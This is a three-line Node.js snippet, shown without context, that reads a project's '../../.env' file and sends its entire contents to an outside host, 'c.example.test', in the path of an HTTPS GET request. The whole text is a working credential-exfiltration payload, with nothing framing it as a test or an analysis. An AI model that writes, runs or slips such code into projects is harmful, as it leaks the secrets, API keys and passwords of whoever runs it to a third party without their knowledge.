const https = require("https");
const text = require("fs").readFileSync("../../.env", "utf8");
https.get("https://c.example.test/" + text);
